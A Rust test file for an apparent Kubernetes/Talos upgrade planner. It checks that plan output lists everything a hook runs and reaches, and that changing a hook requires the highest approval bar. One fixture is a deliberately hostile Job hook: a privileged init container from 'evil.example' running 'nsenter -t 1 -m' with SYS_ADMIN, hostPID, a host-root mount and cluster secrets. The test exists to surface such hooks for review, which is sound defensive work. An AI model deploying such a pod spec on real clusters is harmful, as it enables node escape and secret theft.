//! Hooks in the plan: what they run, what they reach, and the bar a change needs.

use super::*;

#[test]
fn hooks_are_in_the_plan_and_a_change_to_them_needs_the_highest_bar_in_force() {
    let i = observed("v1.34.1", 1, vec![w("w-1", "v1.12.4")]);
    let cluster = |url: &str| {
        format!(
            "  approvals:\n    required: 1\n    controlPlane: 3\n  hooks:\n    beforeJob:\n      - name: announce\n        timeout: 1m\n        http: {{ url: \"{url}\", credential: ops }}\n"
        )
    };
    let pool_hooks = |cmd: &str| {
        format!(
            "  hooks:\n    beforeNode:\n      - name: noout\n        timeout: 5m\n        job:\n          namespace: rook-ceph\n          podSpec:\n            containers:\n              - name: ceph\n                image: rook/ceph:v1.15.5\n                command: [ceph, osd, set, {cmd}]\n"
        )
    };
    let workers =
        |talos: &str, cmd: &str| vec![pool_doc("w", "worker", "w-1", talos, &pool_hooks(cmd))];
    let applied = one(
        "v1.34.1",
        &cluster("https://hooks.example/medea"),
        &workers("v1.12.4", "noout"),
    );
    // the same hooks, a version bump: the ordinary bar; the plan shows the hooks
    let p = compute(
        &one(
            "v1.34.1",
            &cluster("https://hooks.example/medea"),
            &workers("v1.13.9", "noout"),
        ),
        &i,
        &applied_of(&applied),
        None,
    )
    .unwrap();
    assert_eq!(p.approvals_required, 1);
    assert!(
        p.clusters[0].settings.is_empty(),
        "{:?}",
        p.clusters[0].settings
    );
    let text = render::text(&p, Default::default());
    for line in [
        "  hook beforeJob: announce (http POST https://hooks.example/medea, credential ops; timeout 1m)",
        "hook beforeNode: noout (job in namespace rook-ceph; timeout 5m)",
        "    container ceph: rook/ceph:v1.15.5 command [\"ceph\",\"osd\",\"set\",\"noout\"]",
        "    pod: service account default",
    ] {
        assert!(text.contains(line), "{line} in {text}");
    }
    let json = serde_json::to_value(&p).unwrap();
    assert_eq!(
        json["clusters"][0]["hooks"]["beforeJob"][0]["name"],
        "announce"
    );
    assert_eq!(
        json["clusters"][0]["steps"][0]["hooks"]["beforeNode"][0]["action"]["podSpec"]["containers"]
            [0]["command"][3],
        "noout"
    );
    // a change of a Job's command (not in its summary) or of an HTTP hook's URL: a settings
    // change, the highest bar in force, and the plan id moves
    for (c, cmd, field) in [
        ("https://hooks.example/medea", "unset", "hooks.beforeNode"),
        ("https://127.0.0.1:4444", "noout", "hooks.beforeJob"),
    ] {
        let next = one("v1.34.1", &cluster(c), &workers("v1.13.9", cmd));
        let q = compute(&next, &i, &applied_of(&applied), None).unwrap();
        assert_eq!(q.approvals_required, 3, "{field}");
        assert_ne!(q.id, p.id);
        let s = &q.clusters[0].settings;
        assert!(s.iter().any(|s| s.field == field), "{field}: {s:#?}");
        assert!(
            q.clusters[0]
                .notes
                .iter()
                .any(|n| matches!(n, crate::plan::note::Note::HooksChange { .. })),
            "{:#?}",
            q.clusters[0].notes
        );
        assert!(
            render::bar_reason(&q).contains("blocking hooks"),
            "{}",
            render::bar_reason(&q)
        );
    }
    // a plan without hooks keeps its JSON free of them (ids of older plans unchanged)
    let plain = one(
        "v1.34.1",
        "",
        &[pool_doc("w", "worker", "w-1", "v1.13.9", "")],
    );
    let q = compute(&plain, &i, &applied_of(&plain), None).unwrap();
    let json = serde_json::to_string(&q).unwrap();
    assert!(!json.contains("hooks"), "{json}");
}

/// Issue #49 item 6: a Job hook's plan lines say everything it runs and may reach (every
/// container and init container with its command, privileges, capabilities, host namespaces
/// and paths, service account, node placement and Secrets), in the hook's first plan (the
/// settings diff) and in later plans that list it unchanged (text and JSON). Before, only the
/// namespace and the `containers` images were shown.
#[test]
fn a_job_hook_lists_everything_it_runs_and_may_reach_in_every_plan() {
    let i = observed("v1.34.1", 1, vec![w("w-1", "v1.12.4")]);
    let hooks = "  hooks:\n    beforeNode:\n      - name: probe\n        timeout: 5m\n        job:\n          namespace: kube-system\n          podSpec:\n            serviceAccountName: admin\n            hostPID: true\n            hostNetwork: true\n            nodeName: cp-1\n            initContainers:\n              - name: setup\n                image: evil.example/setup:v1\n                command: [sh, -c, \"nsenter -t 1 -m\"]\n                securityContext: { privileged: true, capabilities: { add: [SYS_ADMIN] } }\n            containers:\n              - name: main\n                image: busybox:1.36\n                envFrom: [{ secretRef: { name: talos-secrets } }]\n                volumeMounts: [{ name: root, mountPath: /host }]\n            volumes:\n              - { name: root, hostPath: { path: / } }\n";
    let workers = |talos: &str| vec![pool_doc("w", "worker", "w-1", talos, hooks)];
    let expected = [
        "hook beforeNode: probe (job in namespace kube-system; timeout 5m)",
        "init setup: evil.example/setup:v1 command [\"sh\",\"-c\",\"nsenter -t 1 -m\"]; privileged; adds capabilities SYS_ADMIN",
        "container main: busybox:1.36; env from Secret talos-secrets; mounts hostPath volume root at /host",
        "pod: service account admin; hostPID; hostNetwork; hostPath / (volume root); nodeName cp-1",
    ];
    // the first plan with the hook: the settings diff carries all of it
    let empty = one(
        "v1.34.1",
        "",
        &[pool_doc("w", "worker", "w-1", "v1.12.4", "")],
    );
    let first = compute(
        &one("v1.34.1", "", &workers("v1.12.4")),
        &i,
        &applied_of(&empty),
        None,
    )
    .unwrap();
    let change = first.clusters[0]
        .settings
        .iter()
        .find(|s| s.field == "hooks.beforeNode")
        .expect("the hook is a settings change");
    for part in &expected[1..] {
        assert!(change.to.contains(part), "{part} in {}", change.to);
    }
    // a later plan (the hook applied, a version bump) lists it unchanged, every field shown
    let applied = one("v1.34.1", "", &workers("v1.12.4"));
    let later = compute(
        &one("v1.34.1", "", &workers("v1.13.9")),
        &i,
        &applied_of(&applied),
        None,
    )
    .unwrap();
    assert!(later.clusters[0].settings.is_empty());
    let text = render::text(&later, Default::default());
    let lines: Vec<&str> = text.lines().map(str::trim).collect();
    let at = lines
        .iter()
        .position(|l| *l == expected[0])
        .unwrap_or_else(|| panic!("{} in {text}", expected[0]));
    assert_eq!(&lines[at..at + 4], &expected, "{text}");
    // and the JSON says it in fields
    let json: serde_json::Value = serde_json::from_str(&render::json(&later)).unwrap();
    let h = &json["jobHooks"][0];
    assert_eq!(h["pool"], "w");
    assert_eq!(h["point"], "beforeNode");
    assert_eq!(h["name"], "probe");
    let job = &h["job"];
    assert_eq!(job["namespace"], "kube-system");
    assert_eq!(job["serviceAccount"], "admin");
    assert_eq!(job["hostPID"], true);
    assert_eq!(job["nodeName"], "cp-1");
    assert_eq!(job["hostPaths"][0]["path"], "/");
    assert_eq!(job["containers"][0]["kind"], "init");
    assert_eq!(job["containers"][0]["privileged"], true);
    assert_eq!(job["containers"][0]["addCapabilities"][0], "SYS_ADMIN");
    assert_eq!(job["containers"][1]["envFromSecrets"][0], "talos-secrets");
    // derived from the plan, never part of its id
    let mut bare = later.clone();
    bare.clusters = Vec::new();
    assert!(!render::json(&bare).contains("jobHooks"));
}
